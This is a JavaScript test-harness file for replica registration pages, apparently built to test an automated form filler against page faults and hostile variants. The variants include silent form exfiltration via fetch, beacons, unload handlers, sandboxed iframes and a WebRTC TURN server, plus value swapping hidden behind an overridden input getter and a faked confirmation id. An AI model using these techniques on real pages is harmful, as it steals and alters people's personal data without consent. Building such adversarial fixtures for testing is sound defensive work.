/* Shared by every replica page: faults and variants switched on for this run, and the ids the
   page uses for what the facts leave open (they differ between variants).
   Plain JavaScript, no framework, like the real portal's pages. The page sets no "ready"
   marker: the real portal has none, and a filler must tell readiness from the page itself. */
(function () {
  "use strict";
  var body = document.body;
  var faults = (body.dataset.faults || "").split(/\s+/).filter(Boolean);
  var variants = (body.dataset.variants || "").split(/\s+/).filter(Boolean);
  var FCR = (window.FCR = {});
  FCR.IDS = JSON.parse(body.dataset.ids || "{}");

  FCR.has = function (name) {
    return faults.indexOf(name) !== -1;
  };

  FCR.variant = function (name) {
    return variants.indexOf(name) !== -1;
  };

  FCR.byId = function (id) {
    return document.getElementById(id);
  };

  FCR.showMessage = function (id, text) {
    var el = FCR.byId(id);
    if (!el) return;
    el.textContent = text || "";
    el.hidden = !text;
  };

  FCR.post = function (url, data) {
    return fetch(url, {
      method: "POST",
      headers: { "Content-Type": "application/json" },
      body: JSON.stringify(data)
    }).then(function (response) {
      return response
        .json()
        .catch(function () {
          return {};
        })
        .then(function (json) {
          return { ok: response.ok, status: response.status, json: json };
        });
    });
  };

  /* The classic layout's and the sister forms' "send code" button: posts the contact email to
     `path`, then says the code was sent, or why not (`unreachable` when nothing answered). */
  FCR.sendCode = function (path, unreachable) {
    var button = FCR.byId("send-verification-code");
    var email = FCR.byId("enterprise_contact_email").value.trim();
    FCR.showMessage(FCR.IDS.code_error, "");
    FCR.showMessage(FCR.IDS.code_status, "");
    button.disabled = true;
    FCR.post(path, { email: email }).then(function (r) {
      button.disabled = false;
      if (!r.ok) {
        FCR.showMessage(FCR.IDS.code_error, r.json.error || "We could not send the code. Try again.");
        return;
      }
      FCR.showMessage(FCR.IDS.code_status, "A 5-digit code was sent to " + email + ".");
    }, function () {
      button.disabled = false;
      FCR.showMessage(FCR.IDS.code_error, unreachable);
    });
  };

  /* The one-form pages' submit button waits for the terms box, where there is one. */
  FCR.syncSubmit = function () {
    var terms = FCR.byId("enableCheckbox");
    FCR.byId("submitButton").disabled = terms ? !terms.checked : false;
  };

  FCR.digits = function (value) {
    return String(value || "").replace(/\D/g, "");
  };

  /* masked-phone: the contact phone accepts only what is typed key by key; a value set
     without a key press (fill(), script) is wiped. Typed digits are shown as 555-555-0100. */
  function installPhoneMask() {
    var keyPending = false;
    document.addEventListener("keydown", function (e) {
      if (e.target && e.target.id === "enterprise_contact_phone") keyPending = true;
    }, true);
    document.addEventListener("keyup", function (e) {
      if (e.target && e.target.id === "enterprise_contact_phone") keyPending = false;
    }, true);
    document.addEventListener("input", function (e) {
      var el = e.target;
      if (!el || el.id !== "enterprise_contact_phone") return;
      if (!keyPending) {
        el.value = "";
        return;
      }
      var d = FCR.digits(el.value).slice(0, 10);
      var out = d.slice(0, 3);
      if (d.length > 3) out += "-" + d.slice(3, 6);
      if (d.length > 6) out += "-" + d.slice(6);
      el.value = out;
    }, true);
    var phone = FCR.byId("enterprise_contact_phone");
    if (phone) phone.placeholder = "555-555-0100";
  }

  /* rerender / rerender-twice: the section marked data-rerender-scope is rebuilt from its
     original HTML ~300 ms after the first input in it (and once more, for -twice). */
  function installRerender(limit) {
    var scope = document.querySelector("[data-rerender-scope]");
    if (!scope) return;
    var pristine = scope.innerHTML;
    var done = 0;
    var pending = false;
    document.addEventListener("input", function (e) {
      var current = document.querySelector("[data-rerender-scope]");
      if (done >= limit || pending || !current || !current.contains(e.target)) return;
      pending = true;
      setTimeout(function () {
        current.innerHTML = pristine;
        done += 1;
        pending = false;
        body.dataset.rerenders = String(done);
      }, 300);
    });
  }

  /* offsite-request: a popup to another host (the pixel is in the HTML). */
  function installOffsite() {
    var origin = body.dataset.offsiteOrigin;
    var opened = null;
    try {
      opened = window.open(origin + "/popup.html", "fcr-partner");
    } catch (err) {
      /* a blocked popup is fine */
    }
    if (!opened) {
      // No window.open here: a link aimed at a new window opens one just as well.
      var link = document.createElement("a");
      link.href = origin + "/popup.html";
      link.target = "_blank";
      document.body.appendChild(link);
      link.click();
      link.remove();
    }
  }

  /* self-post: the page POSTs the form by itself, with no button pressed: right after the
     code is typed (to the submit endpoint and to a draft endpoint), and again 1.5 s after
     FCR.selfPostLater() (the wizard calls it when the review shows; classic when the code is
     typed), with fetch and a beacon. A filler must let none of it leave the browser. */
  function post(url) {
    var form = FCR.byId("registration-form");
    if (!form) return;
    fetch(url, { method: "POST", body: new FormData(form) }).catch(function () {});
  }

  /* Hostile variants: pages a redesigned or compromised portal could serve, each trying to
     get the registration out without the person's confirmation, or to send something else
     than what they reviewed. A filler must let none of it out. */
  function wholeForm(url, options) {
    var form = FCR.byId("registration-form");
    if (!form) return;
    var init = { method: "POST", body: new FormData(form) };
    for (var key in options || {}) init[key] = options[key];
    fetch(url || form.getAttribute("action"), init).catch(function () {});
  }

  // The values a late change puts in place of what the person reviewed.
  function changeValues() {
    var name = FCR.byId("enterprise_company_name");
    if (name) name.value = name.value + " Holdings";
    var first = FCR.byId("enterprise_phone_0");
    if (first && first.value) first.value = first.value.slice(0, -2) + "99";
  }

  // The values are changed, and every script of the page's world is told they were not: the
  // fields' value getter answers what was typed (what the form sends is what they hold).
  function changeValuesUntold() {
    var told = new Map();
    ["enterprise_company_name", "enterprise_phone_0"].forEach(function (id) {
      var el = FCR.byId(id);
      if (el) told.set(el, el.value);
    });
    changeValues();
    var real = Object.getOwnPropertyDescriptor(HTMLInputElement.prototype, "value");
    Object.defineProperty(HTMLInputElement.prototype, "value", {
      configurable: true,
      enumerable: real.enumerable,
      get: function () {
        return told.has(this) ? told.get(this) : real.get.call(this);
      },
      set: function (value) {
        told.delete(this);
        real.set.call(this, value);
      },
    });
  }

  var CONTINUES = { nextButton1: 1, nextButton2: 1, "send-verification-code": 1 };

  function installHostile() {
    var classic = body.dataset.layout !== "wizard"; // classic and the sister forms
    document.addEventListener(
      "click",
      function (e) {
        var button = e.target.closest && e.target.closest("button");
        if (!button) return;
        var registers = classic ? "send-verification-code" : "nextButton2";
        if (FCR.variant("continue-registers") && button.id === registers) wholeForm();
        if (FCR.variant("timer-post") && CONTINUES[button.id]) setTimeout(wholeForm, 0);
        if (FCR.variant("swap-on-submit") && button.id === "submitButton") changeValues();
        if (FCR.variant("fake-feedback") && button.id === "submitButton") {
          // No request at all: an answer made up in the page.
          e.preventDefault();
          e.stopImmediatePropagation();
          var shown = document.createElement("p");
          shown.className = "feedback-id";
          shown.textContent = "FCRFE12072026000000001";
          document.body.appendChild(shown);
        }
      },
      true
    );
    if (FCR.variant("formdata-swap")) {
      // The page is left as reviewed; what the form sends is changed as it is built.
      document.addEventListener("formdata", function (e) {
        var data = e.formData;
        data.set("enterprise_company_name", "Evil Corp Holdings");
        data.append("zz_copy", data.get("enterprise_phone_0") || "");
        data.set("enterprise_phone_0", "6 1 9 5 5 5 0 1 9 9");
      });
    }
    if (FCR.variant("farewell")) {
      var farewell = function () {
        var form = FCR.byId("registration-form");
        if (!form) return;
        wholeForm(null, { keepalive: true });
        wholeForm();
        try {
          navigator.sendBeacon(form.getAttribute("action"), new FormData(form));
        } catch (err) {
          /* no beacons here */
        }
      };
      ["pagehide", "beforeunload", "unload"].forEach(function (type) {
        window.addEventListener(type, farewell);
      });
      document.addEventListener("visibilitychange", farewell);
    }
  }

  /* Called by each layout once what the person reviews is on the page: the wizard's review
     step, the classic layout once the code is typed. */
  FCR.reviewShown = function () {
    if (FCR.variant("late-change")) setTimeout(changeValues, 1500);
    if (FCR.variant("lying-page")) changeValuesUntold();
    if (FCR.variant("sandboxed-frame")) setTimeout(sandboxedPost, 2000);
    if (FCR.variant("webrtc")) setTimeout(openPeer, 0);
    FCR.selfPostLater();
  };

  // Frames sandboxed into processes of their own post the form as their very first script runs
  // (before anything could be set up in the new process).
  function sandboxedPost() {
    var form = FCR.byId("registration-form");
    var data = new URLSearchParams(new FormData(form)).toString();
    var url = location.origin + form.getAttribute("action");
    for (var i = 0; i < 4; i++) {
      // Several, as a page would: each new process is one more chance to be first.
      var frame = document.createElement("iframe");
      frame.sandbox = "allow-scripts";
      frame.style.display = "none";
      frame.srcdoc =
        "<script>fetch(" + JSON.stringify(url) + ", {method: 'POST', mode: 'no-cors', headers: " +
        "{'Content-Type': 'application/x-www-form-urlencoded'}, body: " + JSON.stringify(data) +
        "});<" + "/script>";
      document.body.appendChild(frame);
    }
  }

  // An uncaught error if the browser has no WebRTC: the page's own problem.
  function openPeer() {
    var email = (FCR.byId(FCR.IDS.email) || {}).value || "";
    var peer = new RTCPeerConnection({
      iceServers: [
        {
          urls: ["turn:" + body.dataset.peer + "?transport=udp", "stun:" + body.dataset.peer],
          username: email,
          credential: "registration"
        }
      ]
    });
    peer.createDataChannel("registration");
    peer.createOffer().then(function (offer) {
      return peer.setLocalDescription(offer);
    });
  }

  FCR.selfPostLater = function () {
    if (!FCR.has("self-post")) return;
    setTimeout(function () {
      var form = FCR.byId("registration-form");
      post("/fcr/api/draft");
      try {
        navigator.sendBeacon(form.getAttribute("action"), new FormData(form));
      } catch (err) {
        /* a blocked beacon is fine */
      }
    }, 1500);
  };

  function installSelfPost() {
    var sent = false;
    document.addEventListener("input", function (e) {
      if (sent || !e.target || e.target.id !== FCR.IDS.code) return;
      sent = true;
      var form = FCR.byId("registration-form");
      post(form.getAttribute("action"));
      post("/fcr/api/draft");
    });
  }

  /* Run the page's own init once the form exists, then switch faults on. */
  FCR.boot = function (init) {
    function start() {
      init();
      if (FCR.has("masked-phone")) installPhoneMask();
      if (FCR.has("rerender-twice")) installRerender(2);
      else if (FCR.has("rerender")) installRerender(1);
      if (FCR.has("offsite-request")) installOffsite();
      if (FCR.has("self-post")) installSelfPost();
      installHostile();
      if (body.dataset.layout !== "wizard") {
        document.addEventListener("input", function once(e) {
          if (!e.target || e.target.id !== FCR.IDS.code) return;
          document.removeEventListener("input", once);
          FCR.reviewShown();
        });
      }
    }
    var late = FCR.byId("late-content");
    if (FCR.has("slow") && late) {
      setTimeout(function () {
        var app = FCR.byId("app");
        app.innerHTML = "";
        app.appendChild(late.content.cloneNode(true));
        start();
      }, 1500);
    } else {
      start();
    }
  };
})();
